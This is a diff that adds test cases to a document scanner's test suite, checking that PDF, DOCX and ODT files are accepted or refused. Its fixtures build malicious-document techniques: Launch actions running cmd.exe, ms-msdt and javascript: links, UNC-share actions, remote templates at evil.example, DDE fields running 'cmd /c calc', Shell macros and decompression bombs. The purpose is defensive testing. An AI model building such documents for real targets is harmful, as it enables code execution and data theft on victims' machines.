@@ -1,9 +1,11 @@
+import { PDFName, PDFString } from "@cantoo/pdf-lib";
 import { describe, expect, it } from "vitest";
-import { strToU8, zipSync } from "fflate";
+import { strToU8, unzipSync, zipSync } from "fflate";
 import { scanDocument } from "../../functions/documents/scan-document.ts";
 import {
   aDoc,
   aDocx,
+  aDocxHiding,
   aDocxReferring,
   aDocxReferringAs,
   aDocxSaying,
@@ -14,15 +16,18 @@ import {
   anOdt,
   aPdf,
   aPdfBomb,
+  aPdfWithShadowedScript,
   attached,
   aZipBomb,
   basicModule,
   both,
   content,
   fieldInRuns,
+  innerField,
   launch,
   library,
   meta,
+  onOpen,
   openPassword,
   ownerPassword,
   rewritten,
@@ -59,10 +64,17 @@ describe("a document is a PDF, a DOCX or an ODT by its bytes (DOC-02)", () => {
   ])("%s is refused", (name, make) => refuses(name, "refused-type", make));
 });
 
+const linkTo = (URI: string) => onOpen({ S: "URI", URI: PDFString.of(URI) });
+const SHARE = PDFString.of("\\\\\\\\10.0.0.1\\\\x.pdf");
+const REMOTE_TEMPLATE =
+  '<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example" TargetMode="External"/></Relationships>';
+
 describe("a PDF (DOC-08)", () => {
   it.each<[string, Make]>([
     ["as a person makes it", () => aPdf()],
     ["with its objects in streams", () => aPdf(undefined, { useObjectStreams: true })],
+    ["with a link to a page", () => aPdf(linkTo("https://led.example"))],
+    ["with a link that names a port only", () => aPdf(linkTo("www.led.example:8080/x"))],
     ["with bytes before its header", async () => joined("HTTP/1.1 200 OK\r\n\r\n", await aPdf())],
     ["with what a mail program put after it", async () => joined(await aPdf(), "\r\n-- \r\n")],
     ["with a password for changes only", () => aPdf(ownerPassword)],
@@ -104,7 +116,53 @@ describe("a PDF (DOC-08)", () => {
     ["that starts a program, by objects in a stream", "refused-launch", () => aPdf(launch, asObjects)],
     ["with a file in it", "refused-attachment", () => aPdf(attached)],
     ["with rich media", "refused-attachment", () => aPdf(richMedia)],
-    ["that unpacks to far more", "refused-unpacked", aPdfBomb],
+    [
+      "that starts a program, by a kind that stands elsewhere",
+      "refused-launch",
+      () =>
+        aPdf((pdf) => {
+          const S = pdf.context.register(PDFName.of("Launch"));
+          const action = pdf.context.obj({ S, F: PDFString.of("cmd.exe") });
+          pdf.catalog.set(PDFName.of("OpenAction"), action);
+        }, asObjects),
+    ],
+    ["with a script behind a harmless object of its number", "refused-script", aPdfWithShadowedScript],
+    ["with a link that is a script", "refused-launch", () => aPdf(linkTo("javascript:alert(1)"), asObjects)],
+    ["with a link that starts a program", "refused-launch", () => aPdf(linkTo("ms-msdt:/id x"), asObjects)],
+    ...["GoToR", "GoToE", "ImportData", "SubmitForm"].map((S): [string, string, Make] => [
+      `that goes to a share (${S})`,
+      "refused-remote",
+      () => aPdf(onOpen({ S, F: SHARE }), asObjects),
+    ]),
+    [
+      "with a stream that stands elsewhere",
+      "refused-remote",
+      () =>
+        aPdf((pdf) => {
+          const F = { FS: "URL", F: PDFString.of("https://evil.example/x") };
+          pdf.context.register(pdf.context.stream("", { F }));
+        }, asObjects),
+    ],
+    [
+      "with a script in a model in 3D",
+      "refused-script",
+      () =>
+        aPdf((pdf) => {
+          const OnInstantiate = pdf.context.register(pdf.context.stream("app.alert(1)"));
+          pdf.context.register(pdf.context.stream("x", { Type: "3D", Subtype: "U3D", OnInstantiate }));
+        }),
+    ],
+    ["that unpacks to far more", "refused-unpacked", () => aPdfBomb()],
+    [
+      "that says much before it unpacks to far more",
+      "refused-unpacked",
+      () => aPdfBomb(`/P (${"a".repeat(3000)})`),
+    ],
+    [
+      "that is packed twice, with a remark between",
+      "refused-unpacked",
+      () => aPdfBomb("", "[/FlateDecode % x\n/FlateDecode]"),
+    ],
   ])("%s is refused as %s", refuses);
 });
 
@@ -138,6 +196,15 @@ describe("a DOCX (DOC-03)", () => {
         }),
     ],
     ["with a field for the page", () => aDocxSaying(fieldInRuns(" PAGE "))],
+    ["with a sum of fields", () => aDocxSaying(fieldInRuns(" = ", innerField(" PAGE "), " + 1 "))],
+    [
+      "with a field that links to a page",
+      () => aDocxSaying(fieldInRuns(' HYPERLINK "https://led.example" \\o "Tip: klik" ')),
+    ],
+    [
+      "with a drawing that holds its picture",
+      () => aDocx({ "word/media/image1.svg": '<svg><image href="data:image/png;base64,AA"/></svg>' }),
+    ],
   ])("%s is accepted", accepts(DOCX));
 
   const external = (kind: string, target: string) => () =>
@@ -145,6 +212,87 @@ describe("a DOCX (DOC-03)", () => {
 
   it.each<[string, string, Make]>([
     ["with a password", "refused-password", anEncryptedDocx],
+    [
+      "that is an ODT with macros to other programs",
+      "refused-type",
+      async () => aDocx(unzipSync(anOdt({ "Basic/Standard/Module1.xml": basicModule('Shell("calc")') }))),
+    ],
+    [
+      "with a template from elsewhere, after much space",
+      "refused-remote",
+      () => aDocx({ "word/_rels/settings.xml.rels": " ".repeat(300) + REMOTE_TEMPLATE }),
+    ],
+    [
+      "with a template from elsewhere in what looks like a folder",
+      "refused-damaged",
+      () => aDocxHiding("word/_rels/settings.xml.rels", REMOTE_TEMPLATE),
+    ],
+    [
+      "with attributes that a declaration adds",
+      "refused-damaged",
+      () => aDocx({ "word/x.xml": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>' }),
+    ],
+    [
+      "with a task pane",
+      "refused-object",
+      () => aDocxReferring("webextensiontaskpanes", 'Target="x/taskpanes.xml"'),
+    ],
+    ["with a ribbon elsewhere", "refused-macro", () => aDocxReferring("ui/extensibility", 'Target="x.xml"')],
+    [
+      "that gets its addressees elsewhere",
+      "refused-remote",
+      () => aDocx({ "word/x.xml": '<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge>' }),
+    ],
+    [
+      "with an old picture from elsewhere",
+      "refused-remote",
+      () => aDocxSaying('<w:pict><v:imagedata src="http://evil.example/x.png"/></w:pict>'),
+    ],
+    [
+      "with a field that links to a program",
+      "refused-remote",
+      () => aDocxSaying(fieldInRuns(' HYPERLINK "ms-ms', 'dt:/id x" ')),
+    ],
+    [
+      "with a picture whose place a field makes",
+      "refused-remote",
+      () => aDocxSaying(fieldInRuns(' INCLUDEPICTURE "', innerField(" QUOTE 104 116 "), 'x.png"')),
+    ],
+    [
+      "with DDE of which a field makes a part",
+      "refused-dde",
+      () => aDocxSaying(fieldInRuns(" D", innerField(' QUOTE "DE" '), ' cmd "/c calc"')),
+    ],
+    [
+      "with DDE in the numbers of a chart",
+      "refused-dde",
+      () =>
+        aDocx({
+          "word/embeddings/a.xlsx": zipSync({ "xl/x.xml": strToU8("<x><ddeLink ddeService='cmd'/></x>") }),
+        }),
+    ],
+    [
+      "with elements within each other without end",
+      "refused-unpacked",
+      () => aDocx({ "word/x.xml": "<a>".repeat(1000) }),
+    ],
+    [
+      "with many attributes",
+      "refused-unpacked",
+      () => aDocx({ "word/x.xml": `<a ${Array.from({ length: 2000 }, (_, at) => `a${at}=""`).join(" ")}/>` }),
+    ],
+    [
+      "with many sets of numbers that unpack to far more together",
+      "refused-unpacked",
+      async () => {
+        const numbers = zipSync({ "xl/x.bin": new Uint8Array(30 * 1024 * 1024) });
+        return aDocx(
+          Object.fromEntries(
+            Array.from({ length: 8 }, (_, at) => [`word/embeddings/a${at}.xlsx`, numbers] as const),
+          ),
+        );
+      },
+    ],
     ["cut off halfway", "refused-damaged", async () => (await aDocx()).slice(0, 2000)],
     ["with two parts of one name", "refused-damaged", () => aDocx({ "WORD/document.xml": "<x/>" })],
     ["with macros inside", "refused-macro", () => aDocx({ "word/vbaProject.bin": "macro" })],
@@ -286,6 +434,19 @@ describe("an ODT (DOC-04)", () => {
         }),
     ],
     [
+      "with a drawing that holds its picture",
+      () => anOdt({ "Pictures/1.svg": '<svg><image x:href="data:image/png;base64,AA"/></svg>' }),
+    ],
+    [
+      "with what LibreOffice writes beside the text",
+      () =>
+        anOdt({
+          "Configurations2/accelerator/current.xml": "",
+          "Basic/script-lc.xml":
+            '<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd"><library:libraries/>',
+        }),
+    ],
+    [
       "with a link to a page",
       () => anOdt({ "content.xml": content('<text:a xlink:href="https://led.example">x</text:a>') }),
     ],
@@ -312,6 +473,11 @@ describe("an ODT (DOC-04)", () => {
       "with macros",
       "refused-macro",
       () => anOdt({ "Basic/Standard/Module1.xml": basicModule('Shell("calc")') }),
+    ],
+    [
+      "with macros of a part of it",
+      "refused-macro",
+      () => anOdt({ "Object 1/Basic/Standard/Module1.xml": basicModule('Shell("calc")') }),
     ],
     ["with a script in Python", "refused-macro", () => anOdt({ "Scripts/python/x.py": "import os" })],
     [
